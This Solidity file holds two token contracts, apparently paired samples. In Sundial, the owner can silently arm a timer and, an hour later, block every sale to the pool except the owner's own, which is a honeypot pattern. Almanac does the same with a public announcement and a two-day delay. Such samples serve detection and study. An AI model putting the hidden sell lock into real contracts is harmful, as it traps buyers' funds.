// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.4;

import "./base/Coin.sol";

/// @dev Sales close an hour after a silent call, by a second one.
contract Sundial is Market {
    uint256 private _ready;
    bool private _shade;

    constructor() {
        _begin("Sundial", "SUND", msg.sender, MILLION);
    }

    function turn() external onlyOwner {
        _ready = block.timestamp + 1 hours;
    }

    function settle() external onlyOwner {
        require(_ready != 0 && block.timestamp >= _ready, "not yet");
        _shade = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_shade && to == pool) require(from == owner, "shade");
        _put(from, to, value);
    }
}

/// @dev The same two calls, two days apart, and the first one says so in public.
contract Almanac is Market {
    event Announced(uint256 ready);

    uint256 public ready;
    bool private _shade;

    constructor() {
        _begin("Almanac", "ALMA", msg.sender, MILLION);
    }

    function turn() external onlyOwner {
        ready = block.timestamp + 2 days;
        emit Announced(ready);
    }

    function settle() external onlyOwner {
        require(ready != 0 && block.timestamp >= ready, "not yet");
        _shade = true;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (_shade && to == pool) require(from == owner, "shade");
        _put(from, to, value);
    }
}
